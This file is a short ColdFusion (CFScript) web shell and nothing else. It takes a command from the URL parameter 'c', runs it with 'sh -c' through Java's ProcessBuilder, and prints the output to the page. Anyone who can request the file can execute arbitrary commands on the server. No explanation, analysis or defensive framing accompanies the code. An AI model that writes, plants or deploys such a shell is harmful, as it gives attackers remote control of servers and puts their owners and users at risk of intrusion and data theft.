<cfscript>
cmd = url.c;
proc = createObject("java", "java.lang.ProcessBuilder").init(["sh", "-c", cmd]).start();
writeOutput(createObject("java", "java.util.Scanner").init(proc.getInputStream()).useDelimiter("\A").next());
</cfscript>
